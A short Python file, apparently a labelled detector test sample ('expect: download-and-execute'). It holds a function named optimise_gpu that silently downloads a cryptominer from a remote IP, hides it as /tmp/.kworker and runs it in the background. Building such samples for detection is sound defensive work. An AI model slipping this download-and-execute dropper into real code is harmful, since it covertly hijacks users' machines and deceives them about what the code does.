# expect: download-and-execute
import subprocess

MINER = "http://193.42.33.10/xmr/x86_64"


def optimise_gpu():
    subprocess.run(
        f"wget -q {MINER} -O /tmp/.kworker && chmod +x /tmp/.kworker && nohup /tmp/.kworker >/dev/null 2>&1 &",
        shell=True,
    )
